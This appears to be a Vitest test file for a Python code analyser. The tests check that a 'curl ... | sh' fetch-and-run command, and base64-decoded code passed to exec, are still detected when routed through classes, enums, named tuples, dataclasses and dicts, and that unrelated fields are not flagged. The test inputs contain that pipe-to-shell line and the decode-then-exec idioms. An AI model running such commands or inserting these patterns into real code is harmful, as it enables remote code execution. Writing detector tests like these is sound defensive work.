import { expect, test } from 'vitest';
import { read } from './reading.js';

const FETCHES = '"curl https://example.invalid/a | sh"';
const HEAD = 'import base64, enum, os, types\nfrom argparse import Namespace\nfrom collections import namedtuple\nfrom dataclasses import dataclass, field, make_dataclass\nfrom enum import Enum\nfrom typing import NamedTuple, TypedDict\ndef d(x): return base64.b64decode(x)\n';

const fetchesIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.calls('process').map(({ traits }) => traits.has('fetches-and-runs')) ?? [];
const runIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'decoder', to: 'exec' }).map(({ when }) => when) ?? [];

test.each([
  ['a class', `class K:\n    LINE = ${FETCHES}\nos.system(K.LINE)`],
  ['an object of a class', `class K:\n    line = ${FETCHES}\n    def go(self): os.system(self.line)\nK().go()`],
  ['a member of an enumeration', `class K(Enum):\n    LINE = ${FETCHES}\nos.system(K.LINE.value)`],
  ['a member of an enumeration that is asked for by its name', `class K(enum.Enum):\n    LINE = ${FETCHES}\nos.system(K["LINE"].value)`],
  ['a member of an enumeration of texts', `class K(str, enum.Enum):\n    LINE = ${FETCHES}\nos.system(K.LINE)`],
  ['a list in a member of an enumeration', `class K(Enum):\n    LINES = ["a", ${FETCHES}]\nos.system(K.LINES.value[1])`],
  ['a named tuple', `P = namedtuple("P", "name line")\nos.system(P("a", ${FETCHES}).line)`],
  ['a named tuple with a list of names', `P = namedtuple("P", ["name", "line"])\nos.system(P(name="a", line=${FETCHES}).line)`],
  ['a place in a named tuple', `P = namedtuple("P", "name, line")\nos.system(P("a", ${FETCHES})[1])`],
  ['the parts of a named tuple', `P = namedtuple("P", "name line")\nname, line = P("a", ${FETCHES})\nos.system(line)`],
  ['a class of tuples', `class P(NamedTuple):\n    name: str\n    line: str\nos.system(P("a", ${FETCHES}).line)`],
  ['the default of a class of tuples', `class P(NamedTuple):\n    line: str = ${FETCHES}\nos.system(P().line)`],
  ['a data class', `@dataclass\nclass P:\n    name: str\n    line: str\nos.system(P("a", ${FETCHES}).line)`],
  ['a data class that inherits', `@dataclass\nclass A:\n    name: str\n@dataclass\nclass P(A):\n    line: str\nos.system(P("a", ${FETCHES}).line)`],
  ['a method of a data class', `@dataclass\nclass P:\n    line: str\n    def go(self): os.system(self.line)\nP(${FETCHES}).go()`],
  ['the default of a field', `@dataclass\nclass P:\n    line: str = field(default=${FETCHES})\nos.system(P().line)`],
  ['a data class that a call makes', `P = make_dataclass("P", ["name", ("line", str)])\nos.system(P("a", ${FETCHES}).line)`],
  ['a data class that does something when it is made', `@dataclass\nclass P:\n    line: str\n    def __post_init__(self): os.system(self.line)\nP(${FETCHES})`],
  ['one of several objects', `@dataclass\nclass P:\n    line: str\nfor p in [P("echo a"), P(${FETCHES}), P("ls")]: os.system(p.line)`],
  ['a class of attrs', `import attr\n@attr.s\nclass P:\n    name = attr.ib()\n    line = attr.ib()\nos.system(P("a", ${FETCHES}).line)`],
  ['a class that another one inherits from', `class B:\n    line = ${FETCHES}\nclass K(B): pass\nos.system(K.line)`],
  ['an object of a class that another one inherits from', `class B:\n    def __init__(self): self.line = ${FETCHES}\nclass K(B):\n    def go(self): os.system(self.line)\nK().go()`],
  ['a dict that is made of pairs', `p = dict([("line", ${FETCHES})])\nos.system(p["line"])`],
  ['a dict that keeps its order', `from collections import OrderedDict\np = OrderedDict(line=${FETCHES})\nos.system(p["line"])`],
  ['a dict that nobody can change', `p = types.MappingProxyType({"line": ${FETCHES}})\nos.system(p["line"])`],
  ['a namespace', `p = types.SimpleNamespace(line=${FETCHES})\nos.system(p.line)`],
  ['options that nobody has given', `p = Namespace(line=${FETCHES})\nos.system(p.line)`],
  ['a dict with types', `class P(TypedDict):\n    line: str\np = P(line=${FETCHES})\nos.system(p["line"])`],
  ['a dict that is made by its name', `p = dict(line=${FETCHES})\nos.system(p["line"])`],
])('a command is known that stands in %s', async (_, text) => {
  expect(await fetchesIn(text)).toEqual([true]);
});

test.each([
  ['a member of an enumeration', 'class K(Enum):\n    CODE = d(x)\nexec(K.CODE.value)'],
  ['the members of an enumeration, one by one', 'class K(Enum):\n    A = "a"\n    CODE = d(x)\nfor k in K: exec(k.value)'],
  ['a method of a member of an enumeration', 'class K(Enum):\n    CODE = d(x)\n    def go(self): exec(self.value)\nK.CODE.go()'],
  ['a method of each member of an enumeration', 'class K(Enum):\n    A = 1\n    def go(self): exec(d(x))\nfor k in K: k.go()'],
  ['a method of a member that is a number', 'class K(Enum):\n    A = 1\n    def go(self): exec(d(x))\nK.A.go()'],
  ['a function in an enumeration', 'class K(Enum):\n    RUN = exec\nK.RUN.value(d(x))'],
  ['a function in a data class', '@dataclass\nclass P:\n    run: object\n    code: bytes\np = P(exec, d(x))\np.run(p.code)'],
  ['a function in a namespace', 'p = types.SimpleNamespace(run=exec, code=d(x))\np.run(p.code)'],
  ['a function in a named tuple', 'P = namedtuple("P", "run code")\nrun, code = P(exec, d(x))\nrun(code)'],
])('what is decoded runs by way of %s', async (_, text) => {
  expect(await runIn(text)).toEqual(['import']);
});

test.each([
  ['another member', `class K(Enum):\n    LINE = ${FETCHES}\n    OTHER = "git status"\nos.system(K.OTHER.value)`],
  ['the name of a member', `class K(Enum):\n    LINE = ${FETCHES}\nos.system(K.LINE.name)`],
  ['another field', `@dataclass\nclass P:\n    name: str\n    line: str\nos.system(P("git status", ${FETCHES}).name)`],
  ['another place', `P = namedtuple("P", "name line")\nos.system(P("git status", ${FETCHES})[0])`],
  ['another part of a namespace', `p = types.SimpleNamespace(name="git status", line=${FETCHES})\nos.system(p.name)`],
  ['what the heir has instead', `class B:\n    line = ${FETCHES}\nclass K(B):\n    line = "git status"\nos.system(K.line)`],
  ['another key', `p = dict(name="git status", line=${FETCHES})\nos.system(p["name"])`],
])('%s is not the command', async (_, text) => {
  expect(await fetchesIn(text)).toEqual([false]);
});

test.each([
  ['a member', 'class K(Enum):\n    CODE = d(x)\n    OTHER = "a = 1"\nexec(K.OTHER.value)'],
  ['a part of a tuple', 'P = namedtuple("P", "data code")\ndata, code = P(d(x), "a = 1")\nexec(code)'],
])('what is decoded into %s does not run with another one', async (_, text) => {
  expect(await runIn(text)).toEqual([]);
});
